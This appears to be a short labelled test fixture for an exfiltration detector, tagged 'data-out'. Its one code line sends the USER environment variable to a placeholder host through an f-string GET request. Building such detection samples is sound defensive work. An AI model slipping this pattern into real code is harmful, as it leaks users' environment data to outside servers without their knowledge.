# expect: data-out
# source: issue 4
# technique: GET with an f-string carrying an environment variable
import os
import requests

requests.get(f"https://telemetry.example.net/p?u={os.environ['USER']}")
